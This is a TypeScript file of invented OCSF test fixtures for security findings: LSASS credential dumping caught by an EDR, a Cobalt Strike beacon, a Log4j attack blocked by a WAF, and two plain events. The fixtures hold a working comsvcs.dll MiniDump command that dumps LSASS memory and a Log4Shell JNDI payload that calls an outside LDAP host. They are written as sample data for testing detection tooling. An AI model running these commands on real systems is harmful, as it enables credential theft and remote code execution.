/*
 * Test-only OCSF fixtures, written by this project from the OCSF schema (schema.ocsf.io, 1.1–1.3):
 * no public OCSF sample set with a clear license exists (see ../shared/samples/README.md).
 * Field names and enums follow the schema: Detection Finding (class_uid 2004, category 2 Findings),
 * the older Security Finding (2001, `finding` object), severity_id 0–6/99, connection_info.direction_id
 * (1 inbound, 2 outbound, 3 lateral), fingerprint algorithm_id (1 MD5, 2 SHA-1, 3 SHA-256),
 * observable type_id (1 Hostname, 2 IP Address, 6 URL String, 7 File Name, 8 Hash), analytic type_id 1 Rule.
 * Addresses and names are documentation ranges (RFC 5737, RFC 2606) and invented assets.
 */

/** Detection Finding from an EDR: credential dumping by a process, a Sigma rule, file hashes. */
export const EDR_CREDENTIAL_DUMPING = {
  activity_id: 1,
  activity_name: 'Create',
  category_uid: 2,
  category_name: 'Findings',
  class_uid: 2004,
  class_name: 'Detection Finding',
  type_uid: 200401,
  time: 1740830400000,
  severity_id: 5,
  severity: 'Critical',
  status_id: 1,
  message: 'LSASS memory read by rundll32 on ws-0042',
  metadata: {
    version: '1.3.0',
    uid: 'det-7f3c2a90',
    product: { name: 'Sentinel EDR', vendor_name: 'Example Security', version: '4.2.1' },
    tenant_uid: 'tenant-acme-01',
  },
  finding_info: {
    uid: 'f-1b2c3d',
    title: 'LSASS Memory Access via Comsvcs MiniDump',
    desc: 'rundll32 invoked comsvcs.dll MiniDump against lsass.exe (attack.t1003.001)',
    types: ['Credential Access'],
    created_time: 1740830399000,
    analytic: {
      uid: 'sigma:646a2b7c-6a41-4c11-8ba4-4d7a6e1f2b55',
      name: 'Comsvcs MiniDump',
      type_id: 1,
      type: 'Rule',
    },
    attacks: [
      {
        version: '14',
        technique: { uid: 'T1003', name: 'OS Credential Dumping' },
        sub_technique: { uid: 'T1003.001', name: 'LSASS Memory' },
        tactic: { uid: 'TA0006', name: 'Credential Access' },
      },
    ],
  },
  device: {
    type_id: 2,
    hostname: 'ws-0042.corp.example.com',
    name: 'ws-0042',
    uid: 'dev-3c9a',
    domain: 'corp.example.com',
    ip: '10.20.30.42',
    mac: '00:50:56:8a:12:34',
    os: { name: 'Windows 11', type_id: 100 },
  },
  actor: {
    user: {
      name: 'k.tanaka',
      domain: 'CORP',
      uid: 'S-1-5-21-1004336348-1177238915-682003330-1107',
      email_addr: 'k.tanaka@corp.example.com',
    },
    process: {
      name: 'rundll32.exe',
      pid: 6112,
      cmd_line:
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\k.tanaka\\lsass.dmp full',
      file: {
        name: 'rundll32.exe',
        path: 'C:\\Windows\\System32\\rundll32.exe',
        hashes: [
          { algorithm_id: 1, algorithm: 'MD5', value: 'ef3179d498793bf4234f708d3be28633' },
          {
            algorithm_id: 3,
            algorithm: 'SHA-256',
            value: '5ad3c37e6f2b9db3ee8b5aeedc474645de90c66e3d95f8620c48102f1eba4124',
          },
        ],
      },
      parent_process: { name: 'cmd.exe', pid: 5020, cmd_line: 'cmd.exe /c run.bat' },
      user: { name: 'k.tanaka' },
    },
  },
  observables: [
    { name: 'device.hostname', type_id: 1, value: 'ws-0042.corp.example.com' },
    { name: 'actor.process.file.hashes', type_id: 8, value: 'ef3179d498793bf4234f708d3be28633' },
  ],
};

/** Detection Finding from an NDR: outbound C2 beacon, malware, URL evidence. */
export const NDR_C2_BEACON = {
  category_uid: 2,
  class_uid: 2004,
  type_uid: 200401,
  activity_id: 1,
  time_dt: '2025-03-01T09:15:27.120+09:00',
  severity_id: 4,
  severity: 'High',
  metadata: {
    version: '1.2.0',
    uid: 'ndr-000913',
    product: { name: 'Flow Sensor', vendor_name: 'Example Networks' },
  },
  finding_info: {
    uid: 'ndr-f-913',
    title: 'Cobalt Strike Beacon over HTTPS',
    types: ['Command and Control', 'Malware'],
    analytic: { uid: 'ndr-rule-5521', name: 'CS beacon JA3 + URI', type_id: 1 },
    attacks: [
      {
        technique: { uid: 'T1071.001', name: 'Web Protocols' },
        tactics: [{ uid: 'TA0011', name: 'Command and Control' }],
      },
    ],
  },
  connection_info: { direction_id: 2, direction: 'Outbound', protocol_name: 'tcp' },
  src_endpoint: { ip: '192.168.10.77', port: 51544, hostname: 'lab-pc-7.corp.example.com' },
  dst_endpoint: { ip: '203.0.113.45', port: 443, hostname: 'cdn-update-check.example.net' },
  evidences: [
    {
      url: { url_string: 'https://cdn-update-check.example.net/api/v2/sync?id=42' },
      query: { hostname: 'cdn-update-check.example.net', type: 'A' },
      dst_endpoint: { ip: '198.51.100.7', port: 8443 },
      src_endpoint: { ip: '192.168.10.77' },
    },
  ],
  malware: [{ name: 'Cobalt Strike', classification_ids: [3], path: 'C:\\ProgramData\\svc\\beacon_x64.exe' }],
  observables: [
    { name: 'dst_endpoint.ip', type_id: 2, value: '203.0.113.45' },
    { name: 'evidences.url', type_id: 6, value: 'https://cdn-update-check.example.net/gate.php' },
    { name: 'malware.file', type_id: 7, value: 'beacon_x64.exe' },
  ],
};

/** Security Finding (OCSF 1.0, `finding` object): an exploited web vulnerability, inbound. */
export const SECURITY_FINDING_LOG4J = {
  category_uid: 2,
  class_uid: 2001,
  class_name: 'Security Finding',
  type_uid: 200101,
  activity_id: 1,
  time: 1740787200,
  severity_id: 6,
  severity: 'Fatal',
  state_id: 1,
  metadata: { version: '1.0.0', product: { name: 'WAF', vendor_name: 'Example Cloud' } },
  finding: {
    uid: 'waf-2025-0301-77',
    title: 'Apache Log4j RCE Attempt',
    desc: 'JNDI lookup in request header; CVE-2021-44228',
    types: ['Exploit'],
  },
  cloud: { provider: 'AWS', region: 'ap-northeast-1', account: { uid: '123456789012' } },
  connection_info: { direction_id: 1 },
  src_endpoint: { ip: '198.51.100.201', port: 40112 },
  dst_endpoint: { ip: '203.0.113.10', port: 443, hostname: 'www.shop.example.com' },
  vulnerabilities: [{ cve: { uid: 'CVE-2021-44228' }, title: 'Log4Shell' }],
  raw_data: 'GET /api/login HTTP/1.1 X-Api-Version: ${jndi:ldap://198.51.100.201:1389/a}',
};

/** OCSF classes that are not findings: Network Activity (4001), Authentication (3002). */
export const NETWORK_ACTIVITY = {
  category_uid: 4,
  class_uid: 4001,
  activity_id: 6,
  time: 1740787200000,
  severity_id: 1,
  src_endpoint: { ip: '10.0.0.5' },
  dst_endpoint: { ip: '203.0.113.9', port: 443 },
};
export const AUTHENTICATION = {
  category_uid: 3,
  class_uid: 3002,
  activity_id: 1,
  time: 1740787200000,
  severity_id: 1,
  user: { name: 'k.tanaka' },
};
